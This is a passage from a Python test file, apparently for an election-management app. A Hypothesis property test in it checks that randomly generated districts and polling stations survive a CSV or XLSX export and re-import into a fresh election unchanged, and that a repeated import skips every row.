    content = data.encode("utf-8-sig") if isinstance(data, str) else data
    dataset = read_upload(content, file_format)
    check_columns(dataset, resource.required_columns)
    return type(resource)(election=target, actor=official).import_data(dataset, dry_run=False, raise_errors=True)


@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)
@given(stations=STATIONS, district_names=st.tuples(ARABIC_NAMES, NAMES), file_format=st.sampled_from([CSV, XLSX]))
def test_random_stations_round_trip_into_a_fresh_election(
    official: User, stations: list[dict[str, Any]], district_names: tuple[str, str], file_format: type[Format]
) -> None:
    with transaction.atomic():
        source = new_election("source")
        districts = {
            code: District.objects.create(election=source, code=code, name=name, name_ar=name)
            for code, name in zip(["N", "S"], district_names, strict=True)
        }
        for station in stations:
            latitude, longitude = station["coordinates"] or (None, None)
            PollingStation.objects.create(
                election=source,
                district=districts[station["district"]],
                code=station["code"],
                name=station["name"],
                name_ar=station["name_ar"],
                registered_voters=station["registered_voters"],
                latitude=latitude,
                longitude=longitude,
            )
        target = new_election("target")

        districts_result = _transfer(DistrictResource(), source.districts.all(), file_format, target, official)
        stations_result = _transfer(PollingStationResource(), source.stations.all(), file_format, target, official)
        again = _transfer(PollingStationResource(), source.stations.all(), file_format, target, official)

        assert not districts_result.has_validation_errors()
        assert not stations_result.has_validation_errors(), stations_result.invalid_rows
        assert district_values(target) == district_values(source)
        assert station_values(target) == station_values(source)
        assert again.totals["skip"] == len(stations)
        transaction.set_rollback(True)
